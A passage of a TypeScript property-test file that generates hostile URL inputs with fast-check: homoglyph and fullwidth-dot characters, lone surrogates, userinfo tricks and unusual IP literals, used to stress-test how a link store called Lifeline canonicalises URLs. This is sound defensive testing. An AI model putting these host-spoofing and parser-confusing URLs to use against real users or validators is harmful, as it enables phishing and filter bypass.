  '\u3000',
  '\ufeff',
  '\ud800',
  '\\',
  '@',
  '%',
  '#',
  '?',
  '/',
  ':',
  '.',
  '[',
  ']',
  '。',
  '．',
  '｡',
  '＠',
  '／',
  'é',
  '\u0301',
  'а',
] as const;

/** One hostile character. */
export const hostileCharacterArbitrary = (): fc.Arbitrary<string> => fc.constantFrom(...HOSTILE_CHARACTERS);

/** A host from the hostile pool, a random valid domain (maybe under news.example), or an IP literal in any form. */
export const hostArbitrary = (): fc.Arbitrary<string> =>
  fc.oneof(
    { arbitrary: pieceOf(HOSTS_POOL), weight: 6 },
    { arbitrary: fc.domain(), weight: 2 },
    { arbitrary: fc.domain().map((d) => `${d}.news.example`), weight: 2 },
    { arbitrary: fc.mixedCase(fc.constant('news.example')), weight: 1 },
    {
      arbitrary: fc
        .tuple(fc.domain(), fc.constantFrom('.', '。', '．', '｡'))
        .map(([d, dot]) => `${d.replaceAll('.', dot)}${dot}news${dot}example`),
      weight: 1,
    },
    { arbitrary: fc.ipV4(), weight: 1 },
    { arbitrary: fc.ipV4Extended(), weight: 1 },
    { arbitrary: fc.ipV6().map((v) => `[${v}]`), weight: 1 },
  );

const pathArbitrary = (): fc.Arbitrary<string> =>
  fc
    .array(
      fc.oneof(
        { arbitrary: pieceOf(SEGMENTS), weight: 6 },
        { arbitrary: fc.webSegment(), weight: 2 },
        { arbitrary: fc.string({ unit: 'grapheme', maxLength: 6 }), weight: 1 },
      ),
      {
        maxLength: 5,
      },
    )
    .chain((segments) =>
      fc.constantFrom('/', '', '//').map((lead) => (segments.length === 0 ? lead : `/${segments.join('/')}`)),
    );

const optionalPart = (prefix: string, pieces: string[][]): fc.Arbitrary<string> =>
  fc.option(
    fc
      .array(
        fc.oneof(
          { arbitrary: pieceOf(pieces), weight: 6 },
          { arbitrary: fc.string({ maxLength: 6 }), weight: 1 },
        ),
        {
          maxLength: 3,
        },
      )
      .map((parts) => `${prefix}${parts.join('&')}`),
    { nil: '' },
  );

/** A destination assembled from hostile and ordinary pieces: scheme, separator, userinfo, host, port, path, query, fragment. */
export const targetUrlArbitrary = (): fc.Arbitrary<string> =>
  fc
    .tuple(
      pieceOf(SCHEMES_POOL),
      pieceOf(SEPARATORS),
      pieceOf(USERINFOS),
      hostArbitrary(),
      pieceOf(PORTS_POOL),
      pathArbitrary(),
      optionalPart('?', QUERY_PIECES),
      optionalPart('#', FRAGMENT_PIECES),
    )
    .map((parts) => parts.join(''));

/** A destination with one hostile character inserted at a random place. */
export const mutatedTargetUrlArbitrary = (): fc.Arbitrary<string> =>
  fc
    .tuple(
      fc.oneof(targetUrlArbitrary(), canonicalTargetUrlArbitrary()),
      fc.nat(),
      hostileCharacterArbitrary(),
    )
    .map(([url, at, ch]) => {
      const i = at % (url.length + 1);
      return url.slice(0, i) + ch + url.slice(i);
    });

/** A valid URL from fast-check's own generator, with ports and every IP form, half of them with userinfo. */
export const webUrlArbitrary = (): fc.Arbitrary<string> =>
  fc.boolean().chain((withUserInfo) =>
    fc.webUrl({
      validSchemes: ['http', 'https'],
      withQueryParameters: true,
      withFragments: true,
      authoritySettings: {
        withIPv4: true,
        withIPv6: true,
        withIPv4Extended: true,
        withUserInfo,
        withPort: true,
      },
    }),
  );

const HEX = '0123456789abcdefABCDEF';
const escapeArbitrary = fc
  .tuple(fc.constantFrom(...HEX), fc.constantFrom(...HEX))
  .map(([a, b]) => `%${a}${b}`)
  .filter((e) => e.toLowerCase() !== '%2e');
const plainSegmentArbitrary = fc
  .array(fc.oneof(fc.constantFrom(...'abcxyz019-_~!$&()*+,;=:@'.split('')), escapeArbitrary), {
    minLength: 1,
    maxLength: 12,
  })
  .map((parts) => parts.join(''))
  .filter((s) => s !== '.' && s !== '..');

/**
 * An URL that is already canonical under HOSTILE_POLICY (a permalink-like path with escapes in either case,
 * maybe a query and a fragment): Lifeline must store it byte-identical.
 */
export const canonicalTargetUrlArbitrary = (): fc.Arbitrary<string> =>
  fc
    .tuple(
      fc.constantFrom('https://', 'http://'),
      fc.constantFrom('', 'www.', 'a-b.', 'x_y.', 'deep.sub.'),
      fc.array(plainSegmentArbitrary, { maxLength: 5 }),
      fc.boolean(),
      fc.option(fc.array(fc.tuple(plainSegmentArbitrary, plainSegmentArbitrary), { maxLength: 3 }), {
        nil: undefined,
      }),
      fc.option(plainSegmentArbitrary, { nil: undefined }),
    )
    .map(([scheme, sub, segments, slash, query, fragment]) => {
      let url = `${scheme}${sub}news.example/${segments.join('/')}${slash && segments.length > 0 ? '/' : ''}`;
      if (query) url += `?${query.map(([k, v]) => `${k.replaceAll('=', '')}=${v}`).join('&')}`;
      if (fragment) url += `#${fragment}`;
      return url;
    });

/** Any string at all, from code units that include lone surrogates, to check nothing throws. */
export const anyStringArbitrary = (): fc.Arbitrary<string> =>
  fc.oneof(fc.string({ unit: 'binary', maxLength: 80 }), fc.string({ unit: 'grapheme', maxLength: 80 }));

/** Hostile free text for non-URL fields: the hand-written strings, hostile characters, or random text. */
export const hostileStringArbitrary = (): fc.Arbitrary<string> =>
  fc.oneof(
    fc.constantFrom(...HOSTILE_STRINGS.map((s) => s.value)),
    fc.array(hostileCharacterArbitrary(), { maxLength: 8 }).map((chars) => chars.join('')),
    anyStringArbitrary(),
  );
